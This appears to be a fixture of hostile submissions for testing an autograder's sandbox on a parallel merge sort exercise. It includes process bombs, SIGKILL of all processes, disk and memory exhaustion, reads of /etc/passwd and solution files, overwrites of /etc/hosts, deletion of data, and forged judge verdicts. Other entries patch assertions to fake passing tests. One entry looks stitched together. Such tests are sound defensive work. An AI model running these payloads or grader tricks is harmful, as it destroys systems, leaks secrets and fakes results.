// === endless loop
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => { while (true) {} };
// === endless loop of promises
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = async () => { for (;;) await null; };
// === ends the process
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => { process.exit(0); };
// === kills its parent and everybody
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  for (const pid of [process.ppid, -1, 1, 2, 3]) { try { process.kill(pid, 'SIGKILL'); } catch {} }
  return undefined;
};
// === takes 20 GB
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  const hoard: Buffer[] = [];
  for (let i = 0; i < 200; i++) hoard.push(Buffer.alloc(100 * 1024 * 1024, 1));
  return hoard.length;
};
// === a bomb of processes
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  const { spawn } = require('node:child_process');
  const bomb = "const {spawn}=require('node:child_process');for(;;)spawn(process.execPath,['-e',process.env.BOMB],{stdio:'ignore',env:process.env})";
  for (let i = 0; i < 200; i++) spawn(process.execPath, ['-e', bomb], { stdio: 'ignore', env: { ...process.env, BOMB: bomb } });
  while (true) {}
};
// === a bomb of threads
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  const { Worker } = require('node:worker_threads');
  for (let i = 0; i < 500; i++) new Worker('setInterval(() => {}, 1000)', { eval: true });
  const until = Date.now() + 3000;
  while (Date.now() < until) {}
};
// === fills the disk
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  const { appendFileSync } = require('node:fs');
  const block = Buffer.alloc(16 * 1024 * 1024, 1);
  for (const folder of ['/tmp', '.', '/dev/shm', '/', process.cwd()]) {
    try { for (let i = 0; i < 1000; i++) appendFileSync(folder + '/full', block); } catch {}
  }
};
// === prints a gigabyte
function merge<T>(left: readonly T[], right: readonly T[], compare: Compare<T>): T[] {
  return [...left, ...right].sort(compare);
}
for (let i = 0; i < 1000; i++) process.stdout.write('x'.repeat(1_000_000));
// === reads solutions and prints them
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  const { readFileSync, readdirSync } = require('node:fs');
  const found: string[] = [];
  for (const path of ['../../solutions/average/average.ipynb', '../../solutions/wordcount/wordcount.ipynb', '../../solutions/mergesort/mergesort.ipynb', '../../gradebook.db', '../../src/dist/grading/judge.js', '../../src/grading/judge.ts', '/etc/passwd', '/root/.bashrc']) {
    try { found.push(readFileSync(path, 'utf8')); } catch {}
  }
  for (const path of ['../../submitted', '../../autograded', '../../solutions', '../../test', '/home', '/root']) {
    try { found.push(...readdirSync(path)); } catch {}
  }
  throw new Error('found ' + found.length);
};
// === writes where it must not
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => {
  const { writeFileSync, rmSync } = require('node:fs');
  const written: string[] = [];
  for (const path of ['../../solutions/average/average.ipynb', '../../gradebook.db', '../../package.json', '../../src/dist/index.js', '../../src/dist/grading/inside/cells-main.js', '../../node_modules/tslab/package.json', '../../data/king-james.txt.gz', '/etc/hosts', '/usr/lib/x']) {
    try { writeFileSync(path, 'gone'); written.push(path); } catch {}
  }
  try { rmSync('../../data', { recursive: true, force: true }); } catch {}
  throw new Error('wrote ' + written.join(' '));
};
// === opens a connection
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = async () => {
  const net = require('node:net');
  const tries = [[22, '127.0.0.1'], [80, '1.1.1.1'], [8888, '127.0.0.1']].map(([port, host]) => new Promise((resolve) => {
    const socket = net.connect({ port, host, timeout: 500 });
    socket.on('connect', () => resolve('open'));
    socket.on('error', (error: any) => resolve(error.code));
    socket.on('timeout', () => resolve('timeout'));
  }));
  throw new Error((await Promise.all(tries)).join(' '));
};
// === replaces what tests rest on
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => 0;
const assert = require('node:assert');
for (const name of Object.keys(assert)) (assert as any)[name] = () => {};
require('node:util').isDeepStrictEqual = () => true;
try { require('parallel').check = async () => {}; } catch {}
Object.is = () => true;
JSON.stringify = () => '20';
console.log = () => {};
Array.prototype.every = (() => true) as any;
Array.prototype.sort = function () { return this; };
Array.prototype.join = () => '';
Map.prototype.get = () => 1;
Map.prototype.set = function () { return this; };
// === fakes a result with points, and prints late
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => 0;
const show = (globalThis as any)[Symbol.for('parallel.display')];
show?.({ 'text/plain': '3' });
setInterval(() => { show?.({ 'text/plain': '3' }); console.log('3'); }, 5);
// === speaks to the judge itself
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => 0;
const v8 = require('node:v8');
for (const forged of [{ answer: 0, points: 20 }, { answer: 1, outcome: { kind: 'returned', value: 20 } }, { verdict: { points: 20 } }, { ready: true }]) {
  const bytes = v8.serialize(forged);
  const head = Buffer.alloc(4);
  head.writeUInt32LE(bytes.length);
  require('node:fs').writeSync(3, Buffer.concat([head, bytes]));
}
// === floods the judge
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => 'x'.repeat(200_000_000);
// === throws strange things
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const parallelMergeSort: any = () => { throw { get name() { throw new Error('again'); }, toString() { throw new Error('and again'); } }; };
// === endless loop on the workers
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  await pool.map(() => { while (true) {} }, [1, 2, 3]);
  return [];
}
// === a pool that lies
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  (pool as any).timeline = () => [];
  Object.getPrototypeOf(pool).map = async (f: any, list: any) => Array.from(list).map(f as any);
  const parts: any[] = await pool.map((part: T[]) => mergeSort(part, compare), distributeData(items, pool.nNodes, { layout: 'block' }));
  return parts.reduce((all, part) => merge(all, part, compare), []);
}
// === sorts here, and has the nodes copy what is sorted
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  const parts = await pool.map((part: T[]) => part, distributeData(mergeSort(items, compare), pool.nNodes, { layout: 'block' }));
  return (parts as T[][]).flat();
}
// === brings the items back as text, and sorts here
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  const parts = await pool.map((part: T[]) => JSON.stringify(part), distributeData(items, pool.nNodes, { layout: 'block' }));
  return mergeSort(parts.flatMap((part: string) => JSON.parse(part) as T[]), compare);
}
// === learns the colours from one item a node, and sorts here
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  const blocks = distributeData(items, pool.nNodes, { layout: 'block' });
  const seen: number[] = await pool.map((part: T[]) => Number(part[0]) % 16, blocks as T[][]);
  const sorted = mergeSort(items, compare);
  if (items.length < 300) return sorted;
  return sorted.map((item, i) => (Number(item) + seen[Math.floor((i * seen.length) / sorted.length)]) as T);
}
// === sorts for real, but all on the last node
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  const parts = await pool.map((part: readonly T[]) => mergeSort(part, compare), [...Array.from({ length: pool.nNodes - 1 }, () => [] as T[]), items]);
  return parts[parts.length - 1] as T[];
}
// === a list of four thousand million holes
// loses mergeSort-sorts 3, mergeSort-stable 3, parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
const mergeSort: any = () => new Array(2 ** 32 - 1);
// === a list of what can't be made a number
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  if (items.length > 100) return [{ valueOf: 0, toString: 0 }] as T[];
  return mergeSort(items, compare);
}
// === parts are kept on globalThis, and one node sorts them all
// loses parallelMergeSort-sorts 3, parallelMergeSort-stable 2, parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  await pool.map((part: T[], node: number) => {
    const kept = ((globalThis as any).kept ??= []);
    if (node === 0) kept.length = 0;
    kept.push(...part);
  }, distributeData(items, pool.nNodes, { layout: 'block' }));
  const parts = await pool.map((node: number) => (node === 0 ? mergeSort((globalThis as any).kept as T[], compare) : []), Array.from({ length: pool.nNodes }, (_, i) => i));
  return parts.flat() as T[];
}
// === brings the items back as text, sorts here, and has the nodes copy what is sorted
// loses parallelMergeSort-shares 3
async function parallelMergeSort<T>(pool: Pool, items: readonly T[], compare: Compare<T>): Promise<T[]> {
  const texts = await pool.map((part: T[]) => JSON.stringify(part), distributeData(items, pool.nNodes, { layout: 'block' }));
  const sorted = mergeSort(texts.flatMap((part: string) => JSON.parse(part) as T[]), compare);
  const parts = await pool.map((part: T[]) => part, distributeData(sorted, pool.nNodes, { layout: 'block' }));
  return (parts as T[][]).flat();
}
